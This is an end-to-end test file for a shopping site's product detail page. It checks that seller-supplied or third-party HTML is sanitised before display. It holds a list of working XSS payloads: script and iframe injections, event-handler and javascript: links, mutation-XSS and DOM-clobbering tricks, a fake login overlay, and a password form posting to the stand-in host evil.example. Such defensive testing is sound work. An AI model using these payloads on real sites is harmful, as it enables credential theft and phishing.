import type { Page } from 'playwright-core';
import { expect } from 'vitest';
import { journeys, LONG_ON_DESKTOP } from './harness';

const FOREIGN = 'https://evil.example';
const RUN = 'window.__stolen=1';

/** Texts as somebody with access to the goods, or another mall's API, might send them. */
const ATTACKS = [
  `<script>${RUN}</script><script src="${FOREIGN}/a.js"></script>`,
  `<img src="x" onerror="${RUN}"><img src=x onerror=${RUN}//>`,
  `<svg onload="${RUN}"><image href="${FOREIGN}/svg.png"/><use href="${FOREIGN}/a.svg#x"/><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<iframe src="javascript:parent.${RUN}"></iframe><iframe srcdoc="<script>parent.${RUN}</script>"></iframe><iframe src="${FOREIGN}/f.html"></iframe>`,
  `<a id="bait" href="javascript:${RUN}">领取优惠</a><a href="jAvAsCrIpT:${RUN}">领取</a><a href="data:text/html,<script>${RUN}</script>">下载</a>`,
  `<style>@import url(${FOREIGN}/a.css); body{background:url(${FOREIGN}/css.png)} h1{display:none}</style><link rel="stylesheet" href="${FOREIGN}/b.css">`,
  `<div class="fixed inset-0 z-toast" style="position:fixed;inset:0;background:url(${FOREIGN}/bg.png);color:red">请重新登录</div>`,
  `<form action="${FOREIGN}/login"><input name="password" autofocus onfocus="${RUN}"><input type="image" src="${FOREIGN}/i.png"><button formaction="${FOREIGN}/x">登录</button></form>`,
  `<video src="${FOREIGN}/v.mp4" poster="${FOREIGN}/p.png" autoplay onerror="${RUN}"><source src="${FOREIGN}/v2.mp4" onerror="${RUN}"></video><audio src="${FOREIGN}/a.mp3" autoplay></audio>`,
  `<object data="${FOREIGN}/o.swf"></object><embed src="${FOREIGN}/e.swf"><base href="${FOREIGN}/"><meta http-equiv="refresh" content="0;url=${FOREIGN}/">`,
  `<picture><source srcset="${FOREIGN}/s.png"><img src="/pictures/none.webp" srcset="${FOREIGN}/s2.png 2x"></picture>`,
  `<details open ontoggle="${RUN}"><summary>更多</summary></details><marquee onstart="${RUN}">促销</marquee>`,
  `<img name="getElementById"><form id="location"></form><a id="token" name="token">x</a>`,
  `<p style="background-image:url('${FOREIGN}/q.png');-moz-binding:url(${FOREIGN}/x.xml)">背景</p><table background="${FOREIGN}/t.png"><tr><td background="${FOREIGN}/t2.png">格</td></tr></table>`,
];
/** Swallows what comes after it when it is cleaned, so it must be last. */
const LAST = `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript><!--><img src=x onerror=${RUN}>-->`;
/** Harmless formatting that a seller uses must stay. */
const HONEST =
  '<h2>适用场合</h2><p style="color:#c00;text-align:center">办公室 <strong>饮水</strong></p><table><tbody><tr><th>规格</th><td>550ml</td></tr></tbody></table>';
const TEXT = `${HONEST}${ATTACKS.join('\n')}<p>正文到此为止</p>${LAST}`;

const GOODS = 100001;
const quoted = `'${TEXT.replaceAll("'", "''")}'`;
const journey = journeys({
  before: `update goods set detail_html = ${quoted} where id = ${GOODS}`,
});

/** Requests to other hosts, and dialogs that were opened. */
function watch(page: Page, base: string): { leaks: () => string[] } {
  const leaks: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(base) && !/^(data|blob):/.test(request.url())) leaks.push(request.url());
  });
  page.on('dialog', (dialog) => {
    leaks.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  return { leaks: () => leaks };
}

async function checkHarmless(page: Page, leaks: string[]): Promise<void> {
  const text = page.locator('.prose-article');
  await text.getByText('正文到此为止').waitFor();
  await text.getByText('正文到此为止').scrollIntoViewIfNeeded();
  // Links that remain are clicked too: one that runs something would run it now.
  for (const link of await text.locator('a').all()) {
    expect(await link.getAttribute('href')).toBeNull();
    await link.click({ force: true });
  }
  const found = await page.evaluate(() => {
    const text = document.querySelector('.prose-article');
    const all = [...(text?.querySelectorAll('*') ?? [])];
    return {
      stolen: '__stolen' in window,
      tags: [...new Set(all.map(({ tagName }) => tagName.toLowerCase()))].filter((tag) =>
        /^(script|style|link|iframe|form|input|button|video|audio|source|object|embed|base|meta|svg|math|picture)$/.test(
          tag,
        ),
      ),
      attributes: [...new Set(all.flatMap((one) => one.getAttributeNames()))].filter((name) =>
        /^on|^(class|id|name|srcset|background|poster|action|formaction)$/.test(name),
      ),
      lifted: all.filter((one) => getComputedStyle(one).position === 'fixed').length,
      foreign: text?.innerHTML.includes('evil.example') ?? true,
      title: text?.querySelector('h2')?.textContent,
      strong: text?.querySelector('strong')?.textContent,
      aligned: [...(text?.querySelectorAll('p') ?? [])].map((one) => one.style.textAlign)[0],
      cell: text?.querySelector('td')?.textContent,
    };
  });
  expect(found).toEqual({
    stolen: false,
    tags: [],
    attributes: [],
    lifted: 0,
    foreign: false,
    title: '适用场合',
    strong: '饮水',
    aligned: 'center',
    cell: '550ml',
  });
  expect(leaks).toEqual([]);
}

journey('商品详情里夹带的脚本、外链和盖住页面的层，一样也不起作用', async ({ visit, mall }) => {
  const { leaks } = watch(visit.page, mall.url);
  visit.expectProblems(/none\.webp|\/x\b/);
  await visit.open(`/pages/gooddetail/${GOODS}`);
  await checkHarmless(visit.page, leaks());
});

journey(
  '别家接口没有清洗过的详情，页面自己清洗',
  async ({ visit, mall }) => {
    const { page } = visit;
    const { leaks } = watch(page, mall.url);
    // The content security policy reports as well while the text is parsed: the second line of defence works.
    visit.expectProblems(/none\.webp|\/x\b|Content Security Policy/);
    await page.route(`**/api/goods/mallGoods/${GOODS}`, async (route) => {
      const answer = (await (await route.fetch()).json()) as { data: { obj: { detail: string } } };
      answer.data.obj.detail = TEXT;
      await route.fulfill({ json: answer });
    });
    await visit.open(`/pages/gooddetail/${GOODS}`);
    await checkHarmless(page, leaks());
  },
  LONG_ON_DESKTOP,
);
